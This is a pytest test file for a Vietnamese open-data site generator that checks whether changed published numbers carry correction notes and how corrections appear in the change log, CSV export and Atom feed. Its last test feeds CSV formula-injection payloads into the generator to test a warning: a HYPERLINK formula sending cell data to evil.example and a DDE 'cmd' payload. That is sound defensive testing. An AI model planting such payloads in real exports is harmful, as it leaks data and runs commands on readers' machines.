"""History cannot be rewritten in silence (issue 15): on a real git repository, a published number or status
that changes or disappears without a correction note is a problem at its line; with a note, the change log,
changes.csv and the feed list it as a correction, apart from the updates."""

from __future__ import annotations

import csv
import io
import json
import xml.etree.ElementTree as ET

import pytest
from conftest import write
from test_build import build
from test_changes import FIRST, SECOND, THIRD, commit, git

from generator.cli import main

SCORES = """
name: diem
title: Điểm
version: 1.0.0
resources:
  - name: scores
    path: data/scores.csv
    schema:
      fields:
        - {name: unit, type: string}
        - {name: year, type: integer}
        - {name: score, type: number}
        - {name: note_vi, type: string}
        - {name: source_id, type: string}
      primaryKey: [unit, year]
"""
SCORES_V1 = """
    unit,year,score,note_vi,source_id
    79,2022,80.5,,seed
    79,2023,82.5,,seed
    01,2023,85.1,,seed
    """
SESSION_FILE = "giam-sat/sessions/2024-06-11-test.yaml"
CORRECTION = """
x-minhbach:
  corrections:
    - resource: scores
      key: {unit: "79", year: 2023}
      note_vi: Báo cáo gốc ghi 83,5
      note_en: The source report says 83.5
"""


@pytest.fixture
def released(project):
    """The conftest project with a scores package, committed: release 1.0.0 of `diem`, the first of the others."""
    write(project / "diem" / "datapackage.yaml", SCORES)
    write(project / "diem" / "data" / "scores.csv", SCORES_V1)
    git(project.parent, "init", "-q")
    commit(project.parent, "First release", FIRST)
    return project


def problems(datasets, capsys) -> list[tuple[str, str, int, str]]:
    code = main(["validate", "--datasets", str(datasets), "--format", "json", "--lang", "en"])
    found = json.loads(capsys.readouterr().out)["problems"]
    assert code == (1 if any(p["severity"] == "error" for p in found) else 0)
    return [(p["code"], p["path"].rpartition("datasets/")[2], p["line"], p["field"]) for p in found]


def edit(path, old: str, new: str) -> None:
    text = path.read_text("utf-8")
    assert old in text, old
    path.write_text(text.replace(old, new), "utf-8")


def test_a_changed_number_needs_a_correction_note_and_a_new_row_does_not(released, capsys):
    scores = released / "diem" / "data" / "scores.csv"
    edit(scores, "79,2023,82.5,,seed", "79,2023,83.5,,seed\n79,2024,84.0,,seed")
    edit(scores, "79,2022,80.5,,seed", "79,2022,80.5,ghi chú mới,seed")  # text beside a number: an update
    assert problems(released, capsys) == [("uncorrected-change", "diem/data/scores.csv", 3, "score")]
    err = main(["validate", "--datasets", str(released), "--lang", "en"]) and capsys.readouterr().out
    assert "scores: unit=79; year=2023, published in 1.0.0, was changed or removed without a correction note: " \
           "82.5 → 83.5" in err
    edit(released / "diem" / "datapackage.yaml", "resources:", CORRECTION.strip() + "\nresources:")
    assert problems(released, capsys) == []


def test_a_removed_row_that_stated_a_number_needs_a_note_at_the_descriptor(released, capsys):
    edit(released / "diem" / "data" / "scores.csv", "01,2023,85.1,,seed\n", "")
    assert problems(released, capsys) == [("uncorrected-change", "diem/datapackage.yaml", 1, "corrections")]
    edit(released / "diem" / "datapackage.yaml", "resources:", CORRECTION.replace('"79", year: 2023', '"01"')
         .strip() + "\nresources:")
    assert problems(released, capsys) == []


def test_a_status_entry_or_a_fact_value_changed_or_removed_needs_a_note(released, capsys):
    session = released / SESSION_FILE
    edit(session, "status: dinh_hoan", "status: da_thuc_hien")
    edit(session, 'value: "9/9"', 'value: "8/9"')
    assert problems(released, capsys) == [("uncorrected-change", SESSION_FILE, 15, "value"),
                                          ("uncorrected-change", SESSION_FILE, 29, "status")]
    # The published entry is gone, a new one is added in its place.
    edit(session, "      - date: 2024-12-01\n        status: da_thuc_hien\n",
         "      - date: 2025-01-02\n        status: da_thuc_hien\n")
    assert problems(released, capsys) == [("uncorrected-change", SESSION_FILE, 15, "value"),
                                          ("uncorrected-change", SESSION_FILE, 23, "status")]  # K02's line
    edit(released / "giam-sat" / "datapackage.yaml", "x-minhbach: {role: supervision,",
         "x-minhbach: {corrections: [{record: GS-2024-06-11-TEST-K02, note_vi: a, note_en: b},"
         " {record: GS-2024-06-11-TEST-F01, note_vi: c, note_en: d}], role: supervision,")
    assert problems(released, capsys) == []


def test_a_quantity_whose_value_is_deleted_needs_a_note_and_a_reworded_record_does_not(released, capsys):
    """The change log lists every published field of a record (its text, its addressees); only a fact's number
    and a status, changed or gone, are guarded by a correction note."""
    session = released / SESSION_FILE
    edit(session, "text_vi: Hoãn thi tuyển", "text_vi: Hoãn kỳ thi tuyển")
    edit(session, "addressees: [SNV]\n", "addressees: [SNV, STC]\n")
    edit(session, "note_en: Inferred from a city-wide decision", "note_en: Inferred from the city's decision")
    assert problems(released, capsys) == []
    edit(session, '    value: "9/9"\n', "")
    assert problems(released, capsys) == [("uncorrected-change", SESSION_FILE, 11, "value")]  # F01's line


def test_a_new_status_entry_is_an_update(released, capsys):
    edit(released / SESSION_FILE, "        note_en: Inferred from a city-wide decision\n",
         "        note_en: Inferred from a city-wide decision\n      - date: 2025-03-01\n"
         "        status: da_thuc_hien\n        evidence: seed\n")
    assert problems(released, capsys) == []


def test_a_correction_that_matches_nothing_and_one_without_a_note_are_reported(released, capsys):
    edit(released / "diem" / "datapackage.yaml", "resources:", CORRECTION.replace("year: 2023", "year: 2032")
         .strip() + "\n    - {record: GS-X}\nresources:")
    assert problems(released, capsys) == [
        ("correction-unused", "diem/datapackage.yaml", 6, "corrections"),
        ("correction-unused", "diem/datapackage.yaml", 10, "corrections"),
        ("missing-value", "diem/datapackage.yaml", 10, "note_vi")]


def test_a_released_correction_is_listed_apart_in_the_log_the_csv_and_the_feed(released, tmp_path, capsys):
    scores = released / "diem" / "data" / "scores.csv"
    edit(scores, "79,2023,82.5,,seed", "79,2023,83.5,,seed\n79,2024,84.0,,seed")
    edit(released / "diem" / "datapackage.yaml", "version: 1.0.0", "version: 1.1.0")
    edit(released / "diem" / "datapackage.yaml", "resources:", CORRECTION.strip() + "\nresources:")
    second = commit(released.parent, "Scores 1.1.0: 2024, and 2023 corrected", SECOND)
    assert problems(released, capsys) == []  # 1.1.0 is compared with 1.0.0: the note is new there
    out = tmp_path / "site"
    assert build(released, out) == 0
    page = (out / "thay-doi" / "index.html").read_text("utf-8")
    block = page[page.index(f'id="diem-1-1-0-{second[:7]}-dinh-chinh"'):]
    block = block[:block.index("</div>")]
    assert "Báo cáo gốc ghi 83,5" in block and "scores: unit=79; year=2023" in block and "82.5" in block
    assert "84.0" not in block  # the new row is an update, not part of the correction
    updates = page[page.index("<code>scores</code>: các dòng thay đổi"):]
    updates = updates[:updates.index("</details>")]
    assert "year=2024" in updates and "year=2023" not in updates  # the correction is not also an update
    rows = list(csv.DictReader(io.StringIO((out / "tai-ve" / "changes.csv").read_text("utf-8"))))
    assert [(r["change"], json.loads(r["key"]), r["correction_vi"], r["correction_en"]) for r in rows
            if r["package"] == "diem"] == [
        ("changed", {"unit": "79", "year": "2023"}, "Báo cáo gốc ghi 83,5", "The source report says 83.5"),
        ("added", {"unit": "79", "year": "2024"}, "", "")]
    feed = ET.parse(out / "en" / "thay-doi" / "atom.xml").getroot()
    entries = {e.findtext("{http://www.w3.org/2005/Atom}id"): e for e in
               feed.findall("{http://www.w3.org/2005/Atom}entry")}
    correction = entries[f"urn:minhbach:correction:diem:{second}"]
    assert correction.findtext("{http://www.w3.org/2005/Atom}title") == "Correction: Điểm 1.1.0"
    assert correction.findtext("{http://www.w3.org/2005/Atom}summary") == \
        "scores: unit=79; year=2023: The source report says 83.5"


def test_a_later_rewrite_of_the_same_row_needs_a_new_note(released, capsys):
    scores = released / "diem" / "data" / "scores.csv"
    edit(scores, "79,2023,82.5,,seed", "79,2023,83.5,,seed")
    edit(released / "diem" / "datapackage.yaml", "version: 1.0.0", "version: 1.1.0")
    edit(released / "diem" / "datapackage.yaml", "resources:", CORRECTION.strip() + "\nresources:")
    commit(released.parent, "1.1.0", SECOND)
    edit(released / "diem" / "datapackage.yaml", "version: 1.1.0", "version: 1.2.0")
    edit(scores, "79,2023,83.5,,seed", "79,2023,84.5,,seed")
    assert problems(released, capsys) == [("uncorrected-change", "diem/data/scores.csv", 3, "score")]


def test_a_package_without_version_is_checked_against_the_release_before_its_last_commit(released, capsys):
    """co-quan has no version: each commit is a release; the last commit's change is the one checked."""
    edit(released / "diem" / "data" / "scores.csv", "79,2023,82.5,,seed", "79,2023,82.5,,seed")  # nothing
    descriptor = released / "diem" / "datapackage.yaml"
    edit(descriptor, "version: 1.0.0\n", "")
    edit(released / "diem" / "data" / "scores.csv", "01,2023,85.1", "01,2023,85.2")
    commit(released.parent, "change a number", SECOND)
    assert problems(released, capsys) == [("uncorrected-change", "diem/data/scores.csv", 4, "score")]
    edit(released / "co-quan" / "data" / "agencies.csv", "Department of Finance", "Finance Department")
    commit(released.parent, "another commit touches another package", THIRD)
    assert problems(released, capsys) == [("uncorrected-change", "diem/data/scores.csv", 4, "score")]


def test_a_reworded_key_or_a_text_value_is_no_rewrite_of_a_number(released, capsys):
    """A period label reworded in the key moves the row (its numbers stay): not a correction. A fact's value
    that is not a number (a document's name) is text, like a statement."""
    scores = released / "diem" / "data" / "scores.csv"
    edit(scores, "01,2023,85.1,,seed", "HN,2023,85.1,,seed")  # the key's text changed, the numbers did not
    edit(released / SESSION_FILE, 'value: "9/9"', 'value: "Nghị quyết 19-NQ/TW"')
    assert problems(released, capsys) == [("uncorrected-change", SESSION_FILE, 15, "value")]  # 9/9 was a number
    commit(released.parent, "F01 names its document", SECOND)
    edit(released / SESSION_FILE, 'value: "Nghị quyết 19-NQ/TW"', 'value: "Nghị quyết 19-NQ/TW ngày 25/10/2017"')
    assert problems(released, capsys) == [("uncorrected-change", SESSION_FILE, 15, "value")]  # still vs 1.0.0
    edit(scores, "HN,2023,85.1,,seed", "HN,2023,85.2,,seed")  # moved and changed: a rewrite
    assert ("uncorrected-change", "diem/datapackage.yaml", 1, "corrections") in problems(released, capsys)


def test_the_same_number_written_another_way_is_no_rewrite(released, capsys):
    """A spreadsheet that saves the file again may write 80.5 as 80.50: the published number is the same, so
    no correction note is asked for (and one given is unused); a number that differs in value still needs one."""
    scores = released / "diem" / "data" / "scores.csv"
    edit(scores, "79,2022,80.5,,seed", "79,2022,80.50,,seed")
    edit(scores, "01,2023,85.1,,seed", "HN,2023,85.10,,seed")  # the key reworded, the number rewritten alike
    assert problems(released, capsys) == []
    edit(released / "diem" / "datapackage.yaml", "resources:",
         CORRECTION.replace("2023", "2022").strip() + "\nresources:")
    assert problems(released, capsys) == [("correction-unused", "diem/datapackage.yaml", 6, "corrections")]
    edit(scores, "79,2022,80.50,,seed", "79,2022,80.6,,seed")
    edit(scores, "79,2023,82.5,,seed", "79,2023,82.500,,seed")
    assert problems(released, capsys) == []  # the note now covers 2022, changed in value
    main(["validate", "--datasets", str(released), "--lang", "en"])
    assert "→" not in capsys.readouterr().out


def test_a_session_file_copied_before_its_id_is_changed_is_one_duplicate_id(released, capsys):
    """README's first step: copy the example session file, then validate. Every record id of the copy is the
    original's, so which file states a record's values cannot be told: duplicate-id says what to do, and the
    rewrite check neither guesses nor reports the original's noted correction as unused (it stopped with exit 2,
    KeyError 'record', when the original had changed since its release: its rows were matched whole)."""
    session = released / SESSION_FILE
    edit(session, "status: dinh_hoan", "status: da_thuc_hien")
    edit(released / "giam-sat" / "datapackage.yaml", "x-minhbach: {role: supervision,",
         "x-minhbach: {corrections: [{record: GS-2024-06-11-TEST-K02, note_vi: a, note_en: b}], role: supervision,")
    assert problems(released, capsys) == []
    copy = session.with_name("2026-11-20-test.yaml")
    copy.write_bytes(session.read_bytes())
    assert problems(released, capsys) == [("duplicate-id", "giam-sat/sessions/2026-11-20-test.yaml", 1, "id")]
    edit(copy, 'value: "9/9"', 'value: "8/9"')  # a copy that differs: still no guess at which one was published
    assert problems(released, capsys) == [("duplicate-id", "giam-sat/sessions/2026-11-20-test.yaml", 1, "id")]
    edit(copy, "id: GS-2024-06-11-TEST", "id: GS-2024-06-11-TEST2")  # its own id: a new session, an update
    assert problems(released, capsys) == []
    edit(session, 'value: "9/9"', 'value: "8/9"')  # the original's published fact: the check is back
    assert problems(released, capsys) == [("uncorrected-change", SESSION_FILE, 15, "value")]


def test_a_record_copied_within_its_file_before_its_id_is_changed_is_one_duplicate_id(released, capsys):
    """Two K02 in one file: the copy's status was read as the published K02's, changed without a note."""
    edit(released / SESSION_FILE, "issues:\n", "  - id: K02\n    addressees: [SNV]\n    text_vi: Thi tuyển\n"
         "    text_en: Exams\n    status_history:\n      - {date: 2024-12-01, status: da_thuc_hien, evidence: sggp}\n"
         "issues:\n")
    assert problems(released, capsys) == [("duplicate-id", SESSION_FILE, 34, "id")]


def feed_entries(out, lang: str = "en") -> dict[str, tuple[str, str, str]]:
    """The feed's entries by id: (title, updated, link)."""
    feed = ET.parse(out / (f"{lang}/" if lang == "en" else "") / "thay-doi" / "atom.xml").getroot()
    atom = "{http://www.w3.org/2005/Atom}"
    return {e.findtext(f"{atom}id"): (e.findtext(f"{atom}title"), e.findtext(f"{atom}updated"),
                                      e.find(f"{atom}link").get("href"))
            for e in feed.findall(f"{atom}entry")}


def test_a_correction_merged_without_a_new_version_is_in_the_feed_from_its_commit_on(released, tmp_path, capsys):
    """maint7 #3: the corrected value is on the site as soon as it is merged, so the feed's subscribers hear of
    it then, not when a version is next released (there may never be one: no warning asks for it). Its entry is
    named and dated by its commit, not by the build or a later commit to the package; releasing the version
    updates that entry rather than announcing the correction twice."""
    edit(released / "diem" / "data" / "scores.csv", "79,2023,82.5,,seed", "79,2023,83.5,,seed")
    edit(released / "diem" / "datapackage.yaml", "resources:", CORRECTION.strip() + "\nresources:")
    corrected = commit(released.parent, "Scores: 2023 corrected", SECOND)
    edit(released / "diem" / "data" / "scores.csv", "79,2022,80.5,,seed", "79,2022,80.5,ghi chú,seed")
    commit(released.parent, "Scores: a note", THIRD)  # an update: the correction's entry does not move
    assert build(released, tmp_path / "site") == 0
    entry = f"urn:minhbach:correction:diem:{corrected}"
    title, updated, link = feed_entries(tmp_path / "site")[entry]
    assert (title, updated) == ("Correction: Điểm (unreleased)", "2026-02-20T15:30:00+07:00")
    page = (tmp_path / "site" / "en" / "thay-doi" / "index.html").read_text("utf-8")
    assert f'id="{link.partition("#")[2]}"' in page and "The source report says 83.5" in page
    assert feed_entries(tmp_path / "site", "vi")[entry][0] == "Đính chính: Điểm (chưa phát hành)"
    edit(released / "diem" / "datapackage.yaml", "version: 1.0.0", "version: 1.1.0")
    release = commit(released.parent, "Scores 1.1.0", "2026-04-01T10:00:00+07:00")
    assert build(released, tmp_path / "after") == 0
    entries = feed_entries(tmp_path / "after")
    assert entries[entry][:2] == ("Correction: Điểm 1.1.0", "2026-04-01T10:00:00+07:00")
    assert [e for e in entries if e.startswith("urn:minhbach:correction:")] == [entry]
    assert f"urn:minhbach:release:diem:{release}" in entries


def test_descriptor_text_that_changes_csv_carries_is_warned_when_it_starts_like_a_formula(tmp_path):
    """A correction's notes, the version and the names are written into tai-ve/changes.csv as they are: one that
    starts like a formula gets the ``formula-like`` warning a table's cell or a session's text gets, at its line
    (hostile audit round 8, finding 3). A signed number or a lone '-' is none, as in a cell."""
    from conftest import Package, Resource, settings_for

    from generator import pipeline

    text = Package("p", (Resource("t", ("id:integer",), rows="1\n"),)).text.replace("  - name: t\n", "  - name: -t\n")
    text += """version: "=1+1"
x-minhbach:
  corrections:
    - resource: -t
      note_vi: '=HYPERLINK("http://evil.example/?leak="&A1,"Nguồn")'
      note_en: "+cmd|' /C calc'!A0"
    - resource: -t
      note_vi: "-5.5"
      note_en: "-"
"""
    Package("p", (Resource("t", ("id:integer",), rows="1\n"),)).write(tmp_path, text)
    found = [(p.code, p.line, p.field, p.params_dict()["char"]) for p in pipeline.check(settings_for(tmp_path)).problems
             if p.code == "formula-like"]
    assert sorted(found) == [("formula-like", 3, "name", "-"), ("formula-like", 8, "version", "="),
                             ("formula-like", 12, "note_vi", "="), ("formula-like", 13, "note_en", "+")]
